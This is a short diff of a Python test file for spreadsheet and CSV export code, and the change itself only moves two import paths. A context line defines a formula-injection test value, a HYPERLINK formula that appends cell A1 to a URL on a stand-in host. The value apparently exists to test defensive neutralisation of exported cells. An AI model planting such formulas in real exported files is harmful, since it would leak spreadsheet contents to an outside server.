@@ -8,8 +8,8 @@ import io
 import openpyxl
 import pytest
 
-from hlom_live.web.record import COLUMNS, csv_file, neutral
-from hlom_live.web.workbook import xlsx_file
+from hlom_live.web.downloads.record import COLUMNS, csv_file, neutral
+from hlom_live.web.paper.xlsx import xlsx_file
 from tests.support.web import API, Site
 
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
